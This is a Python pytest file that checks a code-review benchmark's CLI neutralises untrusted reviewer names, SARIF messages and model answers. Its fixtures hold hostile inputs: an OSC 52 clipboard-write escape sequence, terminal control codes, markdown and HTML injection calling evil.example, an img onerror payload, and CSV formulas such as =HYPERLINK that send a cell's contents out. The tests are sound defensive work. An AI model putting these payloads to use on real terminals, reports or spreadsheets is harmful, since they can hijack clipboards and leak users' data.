"""Text Red-Pen did not write — reviewer names read from replay files, SARIF messages and rule ids, model answers —
through the real command line: it reaches no terminal as control sequences, is never rich markup, cannot break
out of report.md's blocks and is never a spreadsheet formula (issue 26, items 2 to 5)."""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess

import pytest
from markdown_it import MarkdownIt

from tests.conftest import FIXTURE_CORPUS, redpen_cmd

CLIPBOARD = "\x1b]52;c;ZWNobyBwd25lZA==\x07"  # OSC 52: write the reader's clipboard
CURSOR = "\x1b[2J\x1b[1;1H"  # clear the screen, cursor home
C1 = "\x9b31m\x85"  # a C1 CSI and NEL
SEQUENCES = ("\x1b", "\x07", "\x9b", "\x85")


def cli(*args):
    return subprocess.run([*redpen_cmd(), *map(str, args)], capture_output=True, text=True)


def replay_file(path, names, defect=True, explanation="off by one"):
    """Every snippet of the fixture corpus answered by each reviewer named in `names`."""
    from redpen_bench.model.corpus import load_corpus

    snippets = load_corpus(FIXTURE_CORPUS).snippets
    path.write_text("".join(
        json.dumps({"reviewer": name, "item": v.item_id, "variant": v.name, "defect": defect,
                    "lines": [1] if defect else [], "explanation": explanation}) + "\n"
        for name in names for v in snippets))
    return path


def sarif_log(path, rule: str, message: str):
    results = [{"ruleId": rule, "message": {"text": message},
                "locations": [{"physicalLocation": {"artifactLocation": {"uri": f"items/{item}/{variant}.py"},
                                                    "region": {"startLine": 1}}}]}
               for item in ("t1-total", "t2-empty") for variant in ("original", "fixed")]
    path.write_text(json.dumps({"version": "2.1.0", "runs": [{"tool": {"driver": {"name": "Hostile"}},
                                                             "results": results}]}))
    return path


def ran(proc):
    assert proc.returncode == 0 and "Traceback" not in proc.stderr, proc.stderr
    return proc


def no_control_sequence(text: str) -> None:
    assert not any(c in text for c in SEQUENCES), repr(text)


def test_control_sequences_from_names_and_messages_reach_no_terminal(tmp_path):
    """Item 2: a reviewer name from a replay file and a SARIF message holding OSC 52, cursor moves and C1
    controls, through run's summary, score's table and rules' examples (piped, as here)."""
    name = f"evil{CLIPBOARD}{CURSOR}{C1}"
    replay = replay_file(tmp_path / "replay.jsonl", [name])
    log = sarif_log(tmp_path / "log.sarif", f"R{CURSOR}1", f"look here{CLIPBOARD}{C1}")
    run = tmp_path / "run"
    proc = ran(cli("run", "-r", f"replay:{replay}", "-r", f"lint=sarif:{log}", "--corpus", FIXTURE_CORPUS,
                   "--out", run))
    no_control_sequence(proc.stdout + proc.stderr)
    assert "evil\\x1b]52;c;ZWNobyBwd25lZA==\\x07" in proc.stderr  # shown, not sent
    for args in (("score", run), ("score", run, "--intervals", "--bootstrap", "100"), ("rules", run)):
        proc = ran(cli(*args, "--corpus", FIXTURE_CORPUS))
        no_control_sequence(proc.stdout + proc.stderr)
    assert "look here\\x1b]52" in proc.stdout and "R\\x1b[2J" in proc.stdout  # the rules table
    error = cli("score", run, "--corpus", FIXTURE_CORPUS, "--reviewer", "nobody", "--fail-under", "10")
    assert error.returncode == 2 and "evil\\x1b]52" in error.stderr  # the names an error lists
    no_control_sequence(error.stderr)


MARKUP = ["x[/]", "[bold]b[/bold]", ":warning:", r"cost $\frac{a}$"]


@pytest.mark.parametrize("command", ["score", "report", "compare"])
def test_a_name_is_never_rich_markup(tmp_path, command):
    """Item 3: `x[/]` crashed score, report and compare with MarkupError; `[bold]b[/bold]` was shown as `b`.
    A pair of `$` crashed report and compare too: matplotlib read it as mathtext in the charts."""
    replay = replay_file(tmp_path / "replay.jsonl", MARKUP)
    common = ("--corpus", FIXTURE_CORPUS)
    if command == "compare":
        proc = cli("compare", "-r", f"replay:{replay}", "--analyzers", "none", "--runs", tmp_path / "runs",
                   "--out", tmp_path / "reports", "--bootstrap", "100", *common)
    else:
        run = tmp_path / "run"
        ran(cli("run", "-r", f"replay:{replay}", "--out", run, *common))
        extra = ("--out", tmp_path / "reports", "--bootstrap", "100") if command == "report" else ()
        proc = cli(command, run, *extra, *common)
    ran(proc)
    shown = proc.stdout + proc.stderr
    assert "MarkupError" not in shown
    for name in MARKUP:
        assert name in shown, shown
    if command != "score":  # the charts show the name as it is
        charts = "".join(svg.read_text() for svg in tmp_path.glob("reports/*/charts/*.svg"))
        assert r"cost $\frac{a}$" in charts


HOSTILE_NAME = "mine\n\n![pixel](https://evil.example/p.png) [click](https://evil.example/)\n\n"
HOSTILE_ANSWER = ("fine\n\n</details>\n\n- a list\n1. numbered\n    code\n---\n<img src=x onerror=alert(1)> "
                  "https://evil.example/bare www.evil.example ~~struck~~ **bold** `tick`")


def rendered_report(tmp_path) -> str:
    replay = replay_file(tmp_path / "replay.jsonl", [HOSTILE_NAME], explanation=HOSTILE_ANSWER)
    log = sarif_log(tmp_path / "log.sarif", "[r](https://evil.example/r)", "![m](https://evil.example/m.png)")
    run = tmp_path / "run"
    ran(cli("run", "-r", f"replay:{replay}", "-r", f"lint=sarif:{log}", "--corpus", FIXTURE_CORPUS, "--out", run))
    folder = ran(cli("report", run, "--corpus", FIXTURE_CORPUS, "--out", tmp_path / "reports", "--bootstrap",
                     "100")).stdout.strip().splitlines()[-1]
    source = (tmp_path / "reports" / folder / "report.md").read_text()
    renderer = MarkdownIt("commonmark", {"html": True, "linkify": True}).enable(["table", "strikethrough",
                                                                                "linkify"])
    renderer.linkify.set({"fuzzy_link": False})  # links with a scheme or www., as GitHub's Markdown makes them
    return renderer.render(source)


def test_names_and_answers_cannot_break_out_of_report_md(tmp_path):
    """Item 4: a name with blank lines ended the <details><summary> block and the next lines rendered as an
    image and a link to another host; answers, rule ids and messages must not start markup either."""
    page = rendered_report(tmp_path)
    assert "evil.example" in page  # the text is there, as text
    assert not re.search(r"<(img|a)\b[^>]*evil", page) and "<img src=x" not in page, page  # the charts are <img>
    assert "<a " not in page and "<del>" not in page and "<strong>bold" not in page
    assert page.count("<details>") == page.count("</details>")
    for tag in ("<ul>", "<ol>", "<pre><code>", "<hr"):
        assert tag not in page
    summaries = re.findall(r"<summary>(.*?)</summary>", page, re.S)
    assert any("mine  ![pixel](https://evil.example/p.png)" in s for s in summaries), summaries


def test_every_csv_neutralises_formulas_and_keeps_numbers(tmp_path):
    """Item 5: `score --format csv` and rules.csv wrote =HYPERLINK and @SUM cells; scores.csv already did not."""
    hyperlink = '=HYPERLINK("https://evil.example/?"&A1,"x")'
    replay = replay_file(tmp_path / "replay.jsonl", [hyperlink, "@SUM(A1:A9)", "-2+3", "\tcmd"])
    log = sarif_log(tmp_path / "log.sarif", "=1+1", hyperlink)
    run = tmp_path / "run"
    ran(cli("run", "-r", f"replay:{replay}", "-r", f"lint=sarif:{log}", "--corpus", FIXTURE_CORPUS, "--out", run))
    score = ran(cli("score", run, "--corpus", FIXTURE_CORPUS, "--format", "csv", "--intervals", "--bootstrap",
                    "100")).stdout
    rows = list(csv.DictReader(io.StringIO(score)))
    names = {r["reviewer"] for r in rows}
    assert {f"'{hyperlink}", "'@SUM(A1:A9)", "'-2+3", "'\tcmd", "lint", "always-yes"} <= names
    yes = [r for r in rows if r["reviewer"] == "always-yes"]
    assert yes and all(float(r["average"]) < 0 and r["average"].startswith("-") for r in yes)  # numbers stay
    ran(cli("rules", run, "--corpus", FIXTURE_CORPUS))
    with (run / "rules.csv").open(newline="") as handle:
        rules = list(csv.DictReader(handle))
    assert rules and all(r["rule"] == "'=1+1" and r["example"] == f"'{hyperlink}" for r in rules)
    for cell in [c for row in [*rows, *rules] for c in row.values()]:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")) and not re.match(r"-[^0-9.]", cell), cell


def test_the_same_rows_in_any_order_give_the_same_bytes(tmp_path):
    """Item 14: `score --format csv` listed reviewers in the order their rows arrived, so the same rows from a
    local run and from a Dask cluster gave different bytes. Ties in Average are broken by name."""
    from redpen_bench.model.corpus import load_corpus

    snippets = load_corpus(FIXTURE_CORPUS).snippets
    rows = [{"reviewer": name, "item": v.item_id, "variant": v.name, "sample": sample,
             "defect": (v.defective or name == "noisy") and (sample + len(v.item_id)) % 3 != 0,
             "lines": [2], "explanation": "the total is off by one"}
            for name in ("zeta", "alpha", "noisy") for sample in (0, 1, 2) for v in snippets]
    outputs = []
    for order, arrived in (("forward", rows), ("backward", rows[::-1])):
        replay = tmp_path / f"{order}.jsonl"
        replay.write_text("".join(json.dumps(r) + "\n" for r in arrived))
        run = tmp_path / order
        ran(cli("run", "-r", f"replay:{replay}", "--corpus", FIXTURE_CORPUS, "--out", run))
        outputs.append([ran(cli("score", run, "--corpus", FIXTURE_CORPUS, "--format", fmt)).stdout
                        for fmt in ("csv", "json", "table")])
    assert (tmp_path / "forward/verdicts.jsonl").read_text() != (tmp_path / "backward/verdicts.jsonl").read_text()
    assert outputs[0] == outputs[1]
    reviewers = list(json.loads(outputs[0][1])["reviewers"])
    assert reviewers[:2] == ["alpha", "zeta"]  # equal Averages: by name
